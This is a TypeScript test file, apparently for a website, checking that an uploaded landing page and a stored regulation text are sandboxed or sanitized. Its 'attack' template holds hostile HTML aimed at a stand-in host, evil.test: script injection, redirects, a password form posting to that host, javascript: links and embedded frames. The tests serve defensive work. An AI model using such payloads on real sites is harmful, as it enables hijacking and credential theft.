import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { takeFaultsButRefusals } from '../browser.ts';
import { hydrated, siteKit } from './kit.ts';

const kit = siteKit();

/** The attempts of an attacker who may write a document that we show. */
const attack = (
  name: string,
) => `<!doctype html><html lang="es"><head><meta http-equiv="refresh" content="1;url=https://evil.test/">
<base target="_top"><link rel="stylesheet" href="https://evil.test/a.css"><style>body{background:red}</style></head>
<body onload="top.document.title='${name}'"><h1>${name}</h1>
<script>top.document.title='${name}';parent.postMessage('${name}','*');localStorage.x='${name}';top.location='https://evil.test/'</script>
<img src="x" onerror="parent.document.title='${name}'"><img src="https://evil.test/pixel.png">
<form action="https://evil.test/" method="post" target="_top"><input name="password"><button id="send">Ingresar</button></form>
<a id="up" href="/login" target="_top">subir</a><a id="js" href="javascript:top.document.title='${name}'">js</a>
<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object></body></html>`;

describe('a hostile landing document', () => {
  test('does nothing to the page around it, nor alone, with all its tricks', async () => {
    await mkdir(join(kit.dataDir, 'landing'), { recursive: true });
    await writeFile(join(kit.dataDir, 'landing/es.html'), attack('tomada'));
    const context = await kit.phone();
    const outside: string[] = [];
    await context.route(/evil\.test/, (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    const page = await kit.open('/about-us', context);
    const title = await page.title();
    const frame = page.frameLocator('iframe');
    await frame.getByRole('heading', { name: 'tomada' }).waitFor();
    await frame.locator('#up').click();
    await frame.locator('#js').click();
    await frame.locator('#send').click();
    await page.waitForTimeout(2500);
    expect(page.url()).toBe(`${kit.url}/about-us`);
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => localStorage.getItem('x'))).toBeNull();
    // It is as harmless in a tab of its own.
    await page.goto(`${kit.url}/landing/es.html`);
    await page.waitForTimeout(300);
    expect(await page.title()).not.toBe('tomada');
    expect(outside.filter((url) => !url.endsWith('evil.test/'))).toEqual([]);
    expect(takeFaultsButRefusals()).toEqual([]);
  });

  test('stands under our own header, which still works', async () => {
    const page = await kit.open('/about-us');
    await page.locator('header a[href="/"]').first().click();
    await page.waitForURL(`${kit.url}/`);
    expect(takeFaultsButRefusals()).toEqual([]);
  });
});

describe('a hostile regulation', () => {
  test('is text', async () => {
    await kit.backstage.all('update cup set cup_regulation = $1 where cup_id = 1', [
      `<h2>Casco</h2>${attack('reglamento')}<p onclick="document.title='x'" style="position:fixed;inset:0">cláusula</p>`,
    ]);
    await expect.poll(async () => (await fetch(`${kit.url}/?regulation=1`)).text()).toContain('cláusula');
    const context = await kit.phone();
    const outside: string[] = [];
    await context.route(/evil\.test/, (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    const page = await kit.open('/?regulation=1', context);
    const title = await page.title();
    await page.getByText('cláusula').click();
    await page.waitForTimeout(1500);
    expect(outside).toEqual([]);
    expect(await page.title()).toBe(title);
    expect(await page.locator('main script, main iframe, main form, main object').count()).toBe(0);
    expect(await page.getByText('cláusula').evaluate((one) => getComputedStyle(one).position)).toBe('static');
    await page.reload();
    await hydrated(page);
    expect(page.url()).toBe(`${kit.url}/?regulation=1`);
  });
});
